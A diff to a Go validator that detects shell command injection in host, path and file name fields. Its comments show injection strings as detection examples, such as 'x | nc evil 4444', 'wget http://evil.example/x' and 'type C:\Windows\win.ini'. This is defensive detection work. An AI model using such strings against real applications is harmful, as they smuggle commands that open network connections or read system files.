@@ -8,9 +8,16 @@ import "strings"
 // by a command is how a value breaks out of the command line an
 // application builds around it. Where it matters:
 //
-//   - path, file name and host fields: any separator or substitution is
-//     suspicious (cmd.metachar), a host starting with '-' is option
-//     injection; those values never hold shell syntax legitimately.
+//   - host fields: any separator or substitution is suspicious
+//     (cmd.metachar), and a host starting with '-' is option injection;
+//     host names never hold shell syntax legitimately.
+//   - path and file name fields: "$(…)" or a backtick pair with content
+//     is a substitution (cmd.substitution); a separator needs a command
+//     after it (cmd.chained) with an argument a file name would not have
+//     (an option, an absolute path, a URL, a lone number), or, for a
+//     command that is not also an English word, nothing after it or a
+//     host and port: "notes;draft.txt", "/tmp/a|b" and "Passport; ID
+//     scan.pdf" are file names, "x;id" and "x | nc evil 4444" are not.
 //   - URL, header, LDAP, query and unknown fields: a separator must be
 //     followed by a known command (cmd.chained) or a substitution must
 //     hold one (cmd.substitution); English words that are also commands
@@ -83,14 +90,24 @@ func (c *checker) cmdInjection(k FieldKind, s string, m classes) {
 			m = classify(t)
 		}
 	}
-	strict := k == KindPath || k == KindFilename || k == KindHost
-	if strict {
-		if span := shellMeta(t, k == KindHost); span != "" {
+	switch k {
+	case KindHost:
+		// A host name or address never holds shell syntax.
+		if span := shellMeta(t); span != "" {
 			c.report(k, ThreatCmdInjection, "cmd.metachar", span, false)
 			return
 		}
-		if k == KindHost && len(t) > 0 && t[0] == '-' {
+		if len(t) > 0 && t[0] == '-' {
 			c.report(k, ThreatCmdInjection, "cmd.option_injection", t[:min(len(t), 16)], false)
+			return
+		}
+	case KindPath, KindFilename:
+		// File names do hold ';', '|' and '&' ("notes;draft.txt",
+		// "Q1 report; final (v2).xlsx", "/srv/data;v=2/x"); what breaks
+		// out of a command line is a substitution or a separator followed
+		// by a command, below.
+		if span := substitution(t); span != "" {
+			c.report(k, ThreatCmdInjection, "cmd.substitution", span, false)
 			return
 		}
 	}
@@ -123,30 +140,42 @@ func (c *checker) cmdInjection(k FieldKind, s string, m classes) {
 	}
 }
 
-// shellMeta finds shell syntax in a value that should have none. A single
-// '&' is allowed in paths ("Q&A.pdf"), not in hosts.
-func shellMeta(s string, host bool) string {
+// shellMeta finds shell syntax in a host, which should have none.
+func shellMeta(s string) string {
 	for i := 0; i < len(s); i++ {
 		switch s[i] {
-		case ';', '|', '`', '\n', '\r':
+		case ';', '|', '`', '\n', '\r', '&':
 			return s[i:min(len(s), i+8)]
-		case '$':
-			// "$(…)" substitutes; "${HOME}" only expands a variable and
-			// "${IFS}" is caught on its own.
+		case '$', '<', '>':
+			// "$(…)" substitutes, and so do "<(…)" and ">(…)"; "${IFS}"
+			// is caught on its own.
 			if i+1 < len(s) && s[i+1] == '(' {
 				return s[i:min(len(s), i+8)]
 			}
-		case '&':
-			if host || (i+1 < len(s) && s[i+1] == '&') {
-				return s[i:min(len(s), i+8)]
+		}
+	}
+	return ""
+}
+
+// substitution finds a command substitution with content: "$(…)",
+// "<(…)", ">(…)" or a backtick pair around something other than spaces.
+// "$((1+2))" is arithmetic and "${HOME}" a variable; neither runs a
+// command.
+func substitution(s string) string {
+	for i := 0; i+1 < len(s); i++ {
+		switch s[i] {
+		case '$', '<', '>':
+			if s[i+1] != '(' || (i+2 < len(s) && s[i+2] == '(') {
+				continue
 			}
-			if cmd, _, _ := commandAt(s, i+1); cmd != "" {
-				return s[i:min(len(s), i+8)]
+			if end := strings.IndexByte(s[i+2:], ')'); end >= 0 && strings.TrimSpace(s[i+2:i+2+end]) != "" {
+				return s[i:min(len(s), i+16)]
 			}
-		case '<', '>':
-			if i+1 < len(s) && s[i+1] == '(' {
-				return s[i:min(len(s), i+8)]
+		case '`':
+			if end := strings.IndexByte(s[i+1:], '`'); end >= 0 && strings.TrimSpace(s[i+1:i+1+end]) != "" {
+				return s[i : i+2+end]
 			}
+			return ""
 		}
 	}
 	return ""
@@ -221,7 +250,11 @@ func chainedCommand(s string, k FieldKind) (string, string) {
 			}
 			continue
 		}
-		if !shaped && !(strong && endsCommand(s, strings.Index(s[next:], cmd)+next+len(cmd))) {
+		end := strings.Index(s[next:], cmd) + next + len(cmd)
+		if shaped && (k == KindPath || k == KindFilename) {
+			shaped = pathArgShaped(s, end)
+		}
+		if !shaped && !(strong && (endsCommand(s, end) || hostPort(s, end))) {
 			continue
 		}
 		return "cmd.chained", s[i:min(len(s), next+len(cmd)+8)]
@@ -357,6 +390,76 @@ func argShaped(s string, j int) bool {
 		}
 	}
 	return false
+}
+
+// pathArgShaped narrows argShaped for path and file name fields, where a
+// command word may just be a word ("Notes; more (v2).txt", "Passport; id
+// scan.pdf"): only what a command line has and a file name does not
+// counts: an option, an absolute, home or drive path, a URL, a variable,
+// a redirection, a separator, a quote or a number standing alone.
+func pathArgShaped(s string, j int) bool {
+	if j >= len(s) {
+		return true
+	}
+	switch s[j] {
+	case '$', '<', '>', ';', '|', '&', '`', '\'', '"', '}', ',':
+		return true
+	case ' ', '\t', '+':
+	default:
+		return false
+	}
+	k := j
+	for k < len(s) && (s[k] == ' ' || s[k] == '\t' || s[k] == '+') {
+		k++
+	}
+	if k >= len(s) {
+		return true
+	}
+	switch s[k] {
+	case '-', '/', '\\', '$', '~', '>', '<', '|', ';', '&', '\'', '"', '`', '*', '{':
+		return true
+	}
+	if isDigit(s[k]) {
+		e := k
+		for e < len(s) && isDigit(s[e]) {
+			e++
+		}
+		return e == len(s) || isSpace(s[e]) || s[e] == ';' || s[e] == '|' || s[e] == '&'
+	}
+	if k+2 < len(s) && isAlpha(s[k]) && s[k+1] == ':' && (s[k+2] == '\\' || s[k+2] == '/') {
+		return true // a drive path: "type C:\Windows\win.ini"
+	}
+	// a URL: "wget http://evil.example/x"
+	e := k
+	for e < len(s) && e-k < 16 && isAlpha(s[e]) {
+		e++
+	}
+	return e > k && strings.HasPrefix(s[e:], "://")
+}
+
+// hostPort reports "host port" after a command word: "nc evil 4444",
+// "telnet 10.0.0.1 23". Only strong commands take it as an argument.
+func hostPort(s string, j int) bool {
+	k := skipSpace(s, j)
+	if k == j || k >= len(s) {
+		return false
+	}
+	e := k
+	for e < len(s) && !isSpace(s[e]) && e-k < 256 {
+		if !(isAlnum(s[e]) || s[e] == '.' || s[e] == '-' || s[e] == ':' || s[e] == '_') {
+			return false
+		}
+		e++
+	}
+	p := skipSpace(s, e)
+	if p == e || p >= len(s) || !isDigit(s[p]) {
+		return false
+	}
+	q := p
+	for q < len(s) && isDigit(s[q]) {
+		q++
+	}
+	return q-p <= 5 && (q == len(s) || isSpace(s[q]) || s[q] == ';' || s[q] == '|' || s[q] == '&')
 }
 
 const (
